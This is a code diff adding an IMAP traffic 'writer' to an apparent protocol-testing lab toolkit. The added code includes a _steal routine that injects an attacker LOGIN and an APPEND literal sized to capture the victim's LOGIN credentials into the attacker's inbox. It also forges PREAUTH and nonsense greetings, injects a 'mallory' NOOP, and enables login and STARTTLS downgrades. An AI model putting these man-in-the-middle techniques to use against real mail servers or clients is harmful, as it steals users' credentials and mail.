@@ -9,6 +9,17 @@ import re
 from labkit.dialects.base import CLIENT, SERVER, Dialect, Phrase
 from labkit.dialects.imap_words import CAPABILITIES, COMMANDS, GREETINGS, REPLIES, explain
 from labkit.dialects.reader import LARGEST, State, TextReader
+from labkit.dialects.writing import (
+    Account,
+    Injected,
+    Writer,
+    counted_on,
+    first_word,
+    lines,
+    listed,
+    tagged_command,
+    willing,
+)
 
 _COMMAND = re.compile(rb"([^\s*+]+) +((?:UID +)?[A-Z]+)", re.IGNORECASE)
 _DONE = re.compile(rb"DONE\s*$", re.IGNORECASE)
@@ -240,6 +251,60 @@ _DISCLOSES = {
     **dict.fromkeys(("SELECT", "EXAMINE", "CREATE", "DELETE", "SUBSCRIBE", "UNSUBSCRIBE"), _MAILBOX),
 }
 
+
+def _steal(tag: str, account: Account, login: int) -> bytes:
+    """The size of the message has to be known before: what the victim says up to the end of its LOGIN."""
+    first = counted_on(tag)
+    second = counted_on(first)
+    third = counted_on(second)
+    swallowed = len(f"{first} CAPABILITY\r\n{second} LOGIN ") + login
+    return (
+        tagged_command("CAPABILITY", first)
+        + tagged_command(f"LOGIN {account.user} {account.password}", second)
+        + tagged_command(f"APPEND INBOX {{{swallowed}}}", third)
+    )
+
+
+def _preauth(greeting: bytes) -> bytes:
+    return b"* PREAUTH" + greeting[greeting.find(b" ", 2) :]
+
+
+def _corner(phrase: Phrase) -> bytes | None:
+    """A greeting that makes no sense."""
+    return b"* HELLO " + phrase.data[phrase.data.find(b" ", 2) + 1 :] if phrase.kind == "greeting" else None
+
+
+WRITER = Writer(
+    command=tagged_command,
+    replies=lines(
+        done="{tag} OK {text}",
+        refused="{tag} BAD {text}",
+        later="{tag} NO {text}",
+        odd="+ {text}",
+        go_ahead="{tag} OK {text}",
+    ),
+    willing=willing({"APPEND": b"+ OK\r\n"}, b"{tag} OK\r\n"),
+    login=lambda user, password, tag: tagged_command(f"LOGIN {user} {password}", tag),
+    capabilities=listed(
+        rb"(?P<head>\* CAPABILITY |[^\r\n]*?\[CAPABILITY )(?P<list>[^\]\r\n]*)(?P<tail>[^\n]*\n)",
+        lambda text: tuple(text.split()),
+        " ".join,
+        "* CAPABILITY IMAP4rev1 {list}\r\n{tag} OK CAPABILITY completed\r\n",
+        unasked=True,
+    ),
+    tag=first_word,
+    next_tag=counted_on,
+    login_names=frozenset({"AUTH", "LOGINDISABLED"}),
+    clear_login=("AUTH=PLAIN",),
+    weaker_login=("AUTH=LOGIN",),
+    upload="APPEND",
+    older=("IMAP4",),  # RFC 1730 knows no STARTTLS
+    preauth=_preauth,
+    corner=_corner,
+    injected=Injected("NOOP", r"mallory "),
+    steal=_steal,
+)
+
 IMAP = Dialect(
     name="IMAP",
     source="RFC 9051, RFC 3501",
@@ -252,6 +317,7 @@ IMAP = Dialect(
     messages=_messages,
     sasl=r"\S+ +AUTHENTICATE +(?P<mechanism>\S+)(?: +(?P<initial>\S+))?",
     reader=_Reader,
+    writes=WRITER,
     recognises=_recognises,
     explain=explain,
     tagged=True,
